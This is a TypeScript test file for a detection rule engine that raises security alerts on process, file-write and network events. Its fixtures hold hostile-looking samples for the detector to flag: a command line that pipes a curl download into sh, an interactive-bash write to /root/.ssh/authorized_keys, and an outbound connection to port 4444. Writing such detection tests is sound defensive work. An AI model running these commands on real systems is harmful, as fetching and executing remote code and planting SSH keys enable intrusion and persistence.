/**
 * The rule engine with condition rules: indexing by event type, one shared lazy view per record, rule order
 * across legacy and condition rules, the rule language's alert fields and the output template. The
 * conditions here are small hand-written CompiledConditions over a plain record view, so these tests do not
 * depend on the compiler (its own tests cover selections and modifiers; test/detect-rule-set.test.ts runs the
 * real compiler through the loader).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { RuleEngine } from '../src/detect/rule-engine.js';
import type { ConditionRule } from '../src/detect/condition-rule.js';
import { MAX_SUMMARY_CHARS, renderTemplate } from '../src/detect/alert-template.js';
import type { NormalizedRecord } from '../src/normalize/records.js';
import type { FieldValue, RecordView, RuleMeta } from '../src/rules/compiled.js';
import { AGENT, connect, processStart, rule, write } from './detect-fixtures.js';

/** A record view over the record's own keys plus `command_line` and `parent_comm` (as the compiler's derives). */
function plainView(record: NormalizedRecord, extra: Record<string, FieldValue> = {}): RecordView {
  return {
    record,
    value(field: string): FieldValue {
      if (field in extra) return extra[field];
      if (field === 'command_line') {
        const argv = (record as { argv?: string[] | null }).argv;
        return argv ? argv.join(' ') : undefined;
      }
      return (record as unknown as Record<string, FieldValue>)[field];
    },
  };
}

function meta(id: string, over: Partial<RuleMeta> = {}): RuleMeta {
  return { id, name: `${id} name`, severity: 'high', description: null, tags: [], mitre: [], output: null, ...over };
}

/** A condition rule on `events` whose condition is `test` (counting its calls in `calls`). */
function cond(id: string, events: string[], test: (v: RecordView) => boolean, over: Partial<RuleMeta> = {}, calls?: { n: number }): ConditionRule {
  return {
    kind: 'condition',
    meta: meta(id, over),
    origin: { file: 'test.toml', ruleId: id },
    condition: {
      events: new Set(events),
      matches: (v) => {
        if (calls) calls.n++;
        return test(v);
      },
    },
  };
}

test('condition rules are indexed by event type: other records are never tested and no view is created for them', () => {
  const calls = { n: 0 };
  let views = 0;
  const e = new RuleEngine([cond('C-EXEC', ['process_start'], () => true, {}, calls)], {
    agentId: AGENT,
    parentOf: () => undefined,
    createView: (r) => (views++, plainView(r)),
  });
  assert.deepEqual(e.evaluate(connect(80)).map((a) => a.rule_id), []);
  assert.deepEqual(e.evaluate(write('/tmp/x')).map((a) => a.rule_id), []);
  assert.equal(calls.n, 0);
  assert.equal(views, 0, 'no condition rule indexes network_connect or file_write');
  assert.deepEqual(e.evaluate(processStart()).map((a) => a.rule_id), ['C-EXEC']);
  assert.equal(calls.n, 1);
  assert.equal(views, 1);
});

test('one view per record, shared by every condition rule and the alerts', () => {
  let views = 0;
  const seen = new Set<RecordView>();
  const rules = ['A', 'B', 'C'].map((id) => cond(id, ['process_start'], (v) => (seen.add(v), true)));
  const e = new RuleEngine(rules, { agentId: AGENT, parentOf: () => undefined, createView: (r) => (views++, plainView(r)) });
  assert.deepEqual(e.evaluate(processStart()).map((a) => a.rule_id), ['A', 'B', 'C']);
  assert.equal(views, 1);
  assert.equal(seen.size, 1);
  e.evaluate(processStart({ pid: 7 }));
  assert.equal(views, 2, 'a new record gets a new view');
});

test('alerts follow rule order across built-ins, legacy rules and condition rules', () => {
  const legacyFirst = rule({ id: 'L-1', type: 'file', paths: ['/etc/systemd/system/'], operations: ['write'] });
  const legacyLast = rule({ id: 'L-2', type: 'file', paths: ['/etc/'], operations: ['write'] });
  const rules = [cond('C-0', ['file_write'], () => true), legacyFirst, cond('C-1', ['file_write'], () => true), legacyLast, cond('C-NO', ['file_write'], () => false)];
  const e = new RuleEngine(rules, { agentId: AGENT, parentOf: () => undefined, createView: (r) => plainView(r) });
  assert.deepEqual(e.evaluate(write('/etc/systemd/system/x.service')).map((a) => [a.rule_id, a.rule_type]), [
    ['BUILTIN-FILE-SYSTEMD-001', 'file'],
    ['C-0', 'condition'],
    ['L-1', 'file'],
    ['C-1', 'condition'],
    ['L-2', 'file'],
  ]);
});

test('a condition rule needs a view factory', () => {
  assert.throws(() => new RuleEngine([cond('C', ['process_start'], () => true)], { agentId: AGENT, parentOf: () => undefined }), /createView/);
});

test('condition alert: metadata, process context from the view, file path and operation, default summary', () => {
  const r = cond('RG-SSH', ['file_write'], () => true, { description: 'authorized_keys written', tags: ['persistence'], mitre: ['T1098.004'] });
  const parent = { parent_exe_path: '/usr/bin/bash', parent_argv: ['bash', '-i'], parent_exec_id: 'p-1', exec_id: 'c-1', argv: ['tee', '/root/.ssh/authorized_keys'], cwd: '/root' };
  const e = new RuleEngine([r], { agentId: AGENT, parentOf: () => undefined, createView: (rec) => plainView(rec, parent) });
  const [alert] = e.evaluate(write('/root/.ssh/authorized_keys', { comm: 'tee', exe_path: '/usr/bin/tee', pid: 77 }));
  assert.ok(alert);
  assert.equal(alert.rule_type, 'condition');
  assert.deepEqual([alert.rule_id, alert.rule_name, alert.severity, alert.description, alert.tags, alert.mitre], ['RG-SSH', 'RG-SSH name', 'high', 'authorized_keys written', ['persistence'], ['T1098.004']]);
  assert.deepEqual([alert.exec_id, alert.argv, alert.cwd, alert.parent_exe_path, alert.parent_argv, alert.parent_exec_id], ['c-1', ['tee', '/root/.ssh/authorized_keys'], '/root', '/usr/bin/bash', ['bash', '-i'], 'p-1']);
  assert.deepEqual([alert.path, alert.operation, alert.source_event_type, alert.pid, alert.comm], ['/root/.ssh/authorized_keys', 'file_write', 'file_write', 77, 'tee']);
  assert.equal(alert.summary, 'tee (pid 77) wrote to /root/.ssh/authorized_keys: matches rule RG-SSH (RG-SSH name). Investigation signal, not proof of compromise.');
});

test('condition alert on process_start: parent_name from the view; network alert: direction, port, addr', () => {
  const e = new RuleEngine([cond('P', ['process_start'], () => true), cond('N', ['network_connect'], () => true)], {
    agentId: AGENT,
    parentOf: () => undefined,
    createView: (rec) => plainView(rec, { parent_comm: 'bash' }),
  });
  assert.equal(e.evaluate(processStart({ comm: 'curl', exe_path: '/usr/bin/curl' }))[0]?.parent_name, 'bash');
  const [n] = e.evaluate(connect(4444));
  assert.deepEqual([n?.direction, n?.port, n?.addr, n?.parent_name], ['outbound', 4444, '127.0.0.1', null]);
});

test('legacy alerts also carry the process context when there is a view', () => {
  const e = new RuleEngine([], { agentId: AGENT, parentOf: () => undefined, createView: (rec) => plainView(rec, { parent_exec_id: 'pp' }) });
  const [alert] = e.evaluate(connect(4444));
  assert.equal(alert?.rule_id, 'BUILTIN-NET-OUTBOUND-001');
  assert.equal(alert?.parent_exec_id, 'pp');
  assert.deepEqual([alert?.tags, alert?.mitre, alert?.description], [[], [], null]);
});

test('output template: {field} from the view, missing -> ?, lists joined with spaces, capped', () => {
  const r = cond('T', ['process_start'], () => true, { output: '{exe_path} run by {parent_command_line} (uid {uid}) argv={argv} {nope} {not a field}' });
  const e = new RuleEngine([r], { agentId: AGENT, parentOf: () => undefined, createView: (rec) => plainView(rec, { parent_command_line: 'sh -c curl -s http://x | sh' }) });
  const record = processStart({ comm: 'curl', exe_path: '/usr/bin/curl', uid: 1000 });
  record.argv = ['curl', '-s', 'http://x'];
  assert.equal(e.evaluate(record)[0]?.summary, '/usr/bin/curl run by sh -c curl -s http://x | sh (uid 1000) argv=curl -s http://x ? {not a field}');
  const long = renderTemplate('{argv}', plainView({ ...record, argv: ['x'.repeat(5000)] }));
  assert.equal(long.length, MAX_SUMMARY_CHARS);
  assert.ok(long.endsWith('...'));
  assert.equal(renderTemplate('{a}', { record, value: () => { throw new Error('boom'); } }), '?');
});
